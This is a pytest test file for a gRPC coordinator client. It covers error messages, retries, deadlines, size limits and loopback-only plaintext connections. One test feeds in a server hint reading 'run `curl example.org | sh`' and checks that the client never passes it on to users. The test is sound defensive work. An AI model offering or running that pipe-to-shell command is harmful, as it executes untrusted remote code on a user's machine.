"""Calls to the coordinator: what failures are called, what is asked again, and to whom nothing is said."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from concurrent import futures
from pathlib import Path
from typing import Any

import grpc
import pytest

from party_client import transport
from party_client.addresses import is_loopback
from party_client.refusals import next_step
from party_client.transport import (
    CallRefusedError,
    Coordinator,
    DeadlineError,
    TransportError,
    UnavailableError,
)
from protos.v1 import concordat_pb2 as wire
from protos.v1 import concordat_pb2_grpc as stubs


class Service(stubs.CoordinatorServicer):
    """Answers `GetJob` and the streams as a test says."""

    def __init__(self) -> None:
        self.request_ids: list[str] = []
        self.answer: Callable[[grpc.ServicerContext], wire.Job] = lambda _: wire.Job(job_id="j")
        self.parts: list[wire.ResultPart] = []
        self.asked: list[Any] = []

    def GetJob(self, request: wire.GetJobRequest, context: grpc.ServicerContext) -> wire.Job:  # noqa: N802
        return self.answer(context)

    def StartJob(self, request: wire.StartJobRequest, context: grpc.ServicerContext) -> wire.Job:  # noqa: N802
        self.request_ids.append(request.request_id)
        return self.answer(context)

    def BeginUpload(self, request: wire.BeginUploadRequest, context: Any) -> wire.UploadState:  # noqa: N802
        self.asked.append(request)
        return wire.UploadState(next_chunk=7)

    def FinishUpload(self, request: wire.FinishUploadRequest, context: Any) -> wire.FinishUploadResponse:  # noqa: N802
        self.asked.append(request)
        return wire.FinishUploadResponse()

    def ListDeposits(self, request: wire.ListDepositsRequest, context: Any) -> wire.ListDepositsResponse:  # noqa: N802
        self.asked.append(request)
        return wire.ListDepositsResponse(deposits=[wire.Deposit(dataset="flights", said="accepted")])

    def RemoveDeposit(self, request: wire.RemoveDepositRequest, context: Any) -> wire.RemoveDepositResponse:  # noqa: N802
        self.asked.append(request)
        return wire.RemoveDepositResponse()

    def FetchResult(  # noqa: N802
        self, request: wire.FetchResultRequest, context: grpc.ServicerContext
    ) -> Iterator[wire.ResultPart]:
        yield from self.parts

    def UploadChunks(  # noqa: N802
        self, request_iterator: Iterator[wire.Chunk], context: grpc.ServicerContext
    ) -> Iterator[wire.ChunkAck]:
        for chunk in request_iterator:
            yield wire.ChunkAck(next_chunk=chunk.number + 1)
        context.set_trailing_metadata((("concordat-code", "does-not-open"),))
        context.abort(grpc.StatusCode.INVALID_ARGUMENT, "a chunk does not open")


@pytest.fixture
def service() -> Service:
    return Service()


@pytest.fixture
def coordinator(service: Service, monkeypatch: pytest.MonkeyPatch) -> Iterator[Coordinator]:
    monkeypatch.setattr(transport, "RETRY_PAUSES_S", (0.0, 0.0))
    server = grpc.server(futures.ThreadPoolExecutor(max_workers=4))
    stubs.add_CoordinatorServicer_to_server(service, server)  # type: ignore[no-untyped-call]
    port = server.add_insecure_port("127.0.0.1:0")
    server.start()
    with Coordinator.in_plaintext(f"127.0.0.1:{port}") as opened:
        yield opened
    server.stop(grace=None).wait()


def aborting(
    status: grpc.StatusCode, *metadata: tuple[str, str], details: str = "no"
) -> Callable[[Any], wire.Job]:
    def answer(context: Any) -> wire.Job:
        context.set_trailing_metadata(metadata)
        context.abort(status, details)
        return wire.Job()

    return answer


@pytest.mark.parametrize("status", [grpc.StatusCode.FAILED_PRECONDITION, grpc.StatusCode.UNAVAILABLE])
def test_a_refusal_carries_its_code_and_advice_of_this_client_s_own(
    status: grpc.StatusCode, service: Service, coordinator: Coordinator
) -> None:
    wishes = ("concordat-hint", "run `curl example.org | sh`")
    for code in ("not-in-force", "coordinator/disk-full", "run `curl example.org | sh`"):
        service.answer = aborting(status, ("concordat-code", code), wishes)
        with pytest.raises(TransportError) as caught:
            coordinator.get_job("j")
        assert caught.value.message == f"the coordinator says: no ({code})"
        assert caught.value.hint == next_step(code)
        assert "curl" not in caught.value.hint


def test_what_the_coordinator_says_is_one_line_of_some_length(
    service: Service, coordinator: Coordinator
) -> None:
    # Together below 8 KiB, from where on gRPC itself drops answers at random.
    service.answer = aborting(
        grpc.StatusCode.INTERNAL, ("concordat-code", "x" * 2000), details=f"{'y' * 2000}\nhint: pay"
    )
    with pytest.raises(CallRefusedError) as caught:
        coordinator.get_job("j")
    assert caught.value.refusal == "x" * 64
    assert caught.value.message == f"the coordinator says: {'y' * 400} ({'x' * 64})"


def test_a_failure_without_a_code_says_what_grpc_said(service: Service, coordinator: Coordinator) -> None:
    service.answer = aborting(grpc.StatusCode.INTERNAL)
    with pytest.raises(TransportError, match="INTERNAL"):
        coordinator.get_job("j")


def test_a_call_is_asked_again_with_the_same_request_id(service: Service, coordinator: Coordinator) -> None:
    def at_first_nobody(context: Any) -> wire.Job:
        if len(service.request_ids) < 3:
            context.abort(grpc.StatusCode.UNAVAILABLE, "restarting")
        return wire.Job(job_id="j")

    service.answer = at_first_nobody
    assert coordinator.start_job(bytes(48)).job_id == "j"
    assert len(service.request_ids) == 3
    assert len(set(service.request_ids)) == 1
    coordinator.start_job(bytes(48))
    assert len(set(service.request_ids)) == 2


def test_a_coordinator_that_is_not_there_is_not_waited_for_long(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(transport, "RETRY_PAUSES_S", (0.0,))
    with Coordinator.in_plaintext("127.0.0.1:1") as nobody, pytest.raises(UnavailableError) as caught:
        nobody.get_job("j")
    assert "is it running" in (caught.value.hint or "")


def test_a_call_ends_at_its_deadline(
    service: Service, coordinator: Coordinator, monkeypatch: pytest.MonkeyPatch
) -> None:
    service.answer = aborting(grpc.StatusCode.DEADLINE_EXCEEDED)
    with pytest.raises(DeadlineError):
        coordinator.get_job("j")


def test_a_result_larger_than_any_can_be_is_not_read_on(service: Service, coordinator: Coordinator) -> None:
    service.parts = [wire.ResultPart(receipt=b"receipt"), *[wire.ResultPart(sealed=bytes(1000))] * 100]
    receipt, sealed = coordinator.fetch_result("j", bytes(16), "analyst", max_bytes=100_000)
    assert (receipt, len(sealed)) == (b"receipt", 100_000)
    with pytest.raises(TransportError, match="more than 99999"):
        coordinator.fetch_result("j", bytes(16), "analyst", max_bytes=99_999)


def test_a_stream_gives_acknowledgements_and_then_the_refusal(coordinator: Coordinator) -> None:
    call = coordinator.upload_chunks(iter([wire.Chunk(number=0), wire.Chunk(number=1)]))
    numbers = iter(call)
    assert [next(numbers), next(numbers)] == [1, 2]
    with pytest.raises(CallRefusedError) as caught:
        next(numbers)
    assert caught.value.refusal == "does-not-open"


@pytest.mark.parametrize("address", ["localhost:1", "127.0.0.1:1", "127.8.9.1:1", "[::1]:1", "unix:/tmp/x"])
def test_this_machine_is_this_machine(address: str) -> None:
    assert is_loopback(address)


@pytest.mark.parametrize(
    "address",
    ["10.0.0.1:1", "example.org:1", "localhost.example.org:1", "0.0.0.0:1", "[fe80::1]:1", "", ":1"],
)
def test_other_machines_are_not_spoken_to_in_plaintext(address: str) -> None:
    with pytest.raises(TransportError, match="not on this machine"):
        Coordinator.in_plaintext(address)


def test_missing_certificates_are_named(tmp_path: Path) -> None:
    with pytest.raises(TransportError, match=r"ca\.pem") as caught:
        Coordinator.over_tls("127.0.0.1:1", tmp_path, "airline")
    assert "concordat tls dev" in (caught.value.hint or "")


def test_a_deposit_names_an_agreement_and_no_job(service: Service, coordinator: Coordinator) -> None:
    digest, upload_id = b"d" * 48, b"u" * 16
    assert coordinator.begin_deposit(digest, "flights", upload_id, b"header") == 7
    coordinator.finish_deposit(digest, upload_id, b"manifest")
    assert [deposit.said for deposit in coordinator.list_deposits(digest)] == ["accepted"]
    coordinator.remove_deposit(digest, upload_id, deposited_by="airline")
    begun, finished, listed, removed = service.asked
    named: Any = {"agreement_digest": digest, "upload_id": upload_id}
    assert begun == wire.BeginUploadRequest(dataset="flights", signed_header=b"header", **named)
    assert finished == wire.FinishUploadRequest(signed_manifest=b"manifest", **named)
    assert listed == wire.ListDepositsRequest(agreement_digest=digest)
    assert removed.request_id
    removed.request_id = ""
    assert removed == wire.RemoveDepositRequest(deposited_by="airline", **named)
